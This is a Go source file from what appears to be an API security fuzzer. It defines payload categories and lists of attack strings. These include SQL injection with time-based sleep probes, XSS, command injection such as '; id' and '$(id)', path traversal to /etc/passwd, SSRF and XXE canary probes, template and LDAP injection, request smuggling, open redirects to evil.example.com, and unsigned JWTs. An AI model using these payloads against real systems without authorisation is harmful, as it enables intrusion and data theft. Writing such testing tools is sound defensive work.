package engine

import (
	"encoding/base64"
	"sort"
	"strings"
	"time"
)

// Payload categories (model.md §6.3, model-tools.md §3.6). The lists are
// this project's own: short, each entry there for a reason. Two security
// categories also check an operation's credential: auth_bypass sends the
// request without options.authHeader, and jwt_none_alg, which has no
// payloads, sends the request's bearer JWT unsigned (alg "none").
var (
	securityCategories = []string{"sqli", "xss", "command_injection", "path_traversal", "ssrf", "xxe", "ssti",
		"nosql_injection", "ldap_injection", "xpath_injection", "open_redirect", "http_request_smuggling", "auth_bypass",
		"jwt_none_alg"}
	surfaceCategories = []string{"boundary_values", "unicode", "format_strings", "naughty_strings", "type_confusion", "schema_violation"}
)

// categoryAliases map other vocabularies (the Java SDK's, mutator names)
// to categories.
var categoryAliases = map[string][]string{
	"sql_injection": {"sqli"},
	"boundary":      {"boundary_values"},
	"overflow":      {"boundary_values"},
	"injection":     {"sqli", "command_injection", "nosql_injection", "ldap_injection", "xpath_injection"},
	"json":          {"type_confusion", "boundary_values", "schema_violation", "unicode"},
	"xml":           {"xxe", "unicode", "boundary_values"},
	"bytes":         {"boundary_values", "unicode", "format_strings"},
	"string":        {"naughty_strings", "unicode", "format_strings"},
	"url":           {"path_traversal", "ssrf", "open_redirect"},
	"header":        {"http_request_smuggling", "auth_bypass", "jwt_none_alg", "boundary_values"},
	"jwt":           {"jwt_none_alg"},
	"grpc":          {"type_confusion", "boundary_values"},
	"graphql":       {"type_confusion", "schema_violation", "boundary_values"},
}

// Categories is every category this engine knows, sorted.
func Categories() []string {
	out := append(append([]string{}, securityCategories...), surfaceCategories...)
	sort.Strings(out)
	return out
}

// IsSecurity says whether a category is a security one (else a surface one).
func IsSecurity(category string) bool {
	for _, c := range securityCategories {
		if c == category {
			return true
		}
	}
	return false
}

// resolveCategories turns names (categories, aliases, mutator names) into
// categories; unknown names are returned apart.
func resolveCategories(names []string) (cats []string, unknown []string) {
	seen := map[string]bool{}
	add := func(c string) {
		if !seen[c] {
			seen[c] = true
			cats = append(cats, c)
		}
	}
	known := map[string]bool{}
	for _, c := range Categories() {
		known[c] = true
	}
	for _, n := range names {
		n = strings.ToLower(strings.TrimSpace(n))
		switch {
		case known[n]:
			add(n)
		case categoryAliases[n] != nil:
			for _, c := range categoryAliases[n] {
				add(c)
			}
		case n != "":
			unknown = append(unknown, n)
		}
	}
	return cats, unknown
}

// Placeholders in payloads: {m} a marker unique to the request, {canary}
// the run's callback URL for the request.
const (
	markerPH = "{m}"
	canaryPH = "{canary}"
)

// payloadLists hold the string payloads of each category.
var payloadLists = map[string][]string{
	"sqli": {"'", "''", "' OR '1'='1", "' OR 1=1--", "\" OR \"1\"=\"1", "1' ORDER BY 99--", "'; SELECT 1--",
		"1 UNION SELECT NULL--", "admin'--", "') OR ('1'='1"},
	"xss": {"<script>alert('{m}')</script>", "\"><svg onload=alert('{m}')>", "'><img src=x onerror=alert('{m}')>",
		"<{m}>", "javascript:alert('{m}')"},
	"command_injection": {"; id", "| id", "`id`", "$(id)", "&& whoami", "\nid\n"},
	"path_traversal": {"../../../../etc/passwd", "../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd",
		"....//....//....//etc/passwd", "/etc/passwd", "..\\..\\..\\..\\windows\\win.ini"},
	"ssrf":                   {"{canary}", "http://127.0.0.1:1/", "http://localhost/", "file:///etc/passwd"},
	"xxe":                    {"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"{canary}\">]><x>&e;</x>"},
	"ssti":                   {"{{7*7191}}", "${7*7191}", "<%= 7*7191 %>", "#{7*7191}"},
	"nosql_injection":        {"{\"$ne\": null}", "{\"$gt\": \"\"}", "'; return true; var x='"},
	"ldap_injection":         {"*)(uid=*))(|(uid=*", "*", ")(cn=*"},
	"xpath_injection":        {"' or '1'='1", "' or count(/*)=1 or '"},
	"open_redirect":          {"//evil.example.com", "https://evil.example.com/", "/\\evil.example.com"},
	"http_request_smuggling": {"x\r\nTransfer-Encoding: chunked", "x\r\nContent-Length: 0\r\n\r\nGET / HTTP/1.1"},
	"auth_bypass":            {"admin", "null", "true"},
	"boundary_values": {"", "0", "-1", "2147483648", "-2147483649", "9223372036854775808", "1e309", "0.0000001",
		strings.Repeat("A", 4096)},
	"unicode":         {"\u0000", "\uFEFF", "\u202Etxt.exe", "Ω≈ç√∫", "𝕳𝖊𝖑𝖑𝖔", "\uFFFD", "ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ"},
	"format_strings":  {"%s%s%s%s", "%n%n%n", "%x%x%x", "{0}{1}", "%d"},
	"naughty_strings": {"undefined", "null", "NaN", "-0", "0x0", "true", "()", "\\", "\"", "<>", "1;DROP TABLE users"},
}

// typeConfusions replace a JSON value with values of other types.
var typeConfusions = []any{"1", true, false, nil, []any{}, map[string]any{}, 1.5, -1, "", []any{"a"}}

// sqlBooleanPairs are boolean-blind probes: appended to a value, the
// first of a pair is true, the second false.
var sqlBooleanPairs = [][2]string{
	{"' AND '1'='1", "' AND '1'='2"},
	{"' AND 'x'='x", "' AND 'x'='y"},
}

// sleepDelay is how long the time-based probes ask the database to wait;
// a run whose timeoutPerReq is under three times it skips them.
const sleepDelay = time.Second

// sleepPH is the seconds a time-based probe asks the database to wait.
const sleepPH = "{s}"

// sqlSleepPayloads are time-based probes, one per SQL dialect (MySQL,
// PostgreSQL): appended to a value, each makes the database wait.
var sqlSleepPayloads = []string{"' AND SLEEP({s})-- ", "'; SELECT pg_sleep({s})-- "}

// jwtNoneHeader is the encoded header of an unsigned JWT.
var jwtNoneHeader = base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none","typ":"JWT"}`))

// CategoryInfo describes a category for GET /fuzzing/payload-categories.
type CategoryInfo struct {
	Name         string `json:"name"`
	Group        string `json:"group"` // security or surface
	PayloadCount int    `json:"payloadCount"`
}

// CategoryList describes every category.
func CategoryList() []CategoryInfo {
	var out []CategoryInfo
	for _, c := range Categories() {
		g, n := "surface", len(payloadLists[c])
		if IsSecurity(c) {
			g = "security"
		}
		switch c {
		case "type_confusion", "schema_violation":
			n = len(typeConfusions)
		case "jwt_none_alg":
			n = 1 // the operation's own token, unsigned
		}
		out = append(out, CategoryInfo{Name: c, Group: g, PayloadCount: n})
	}
	return out
}
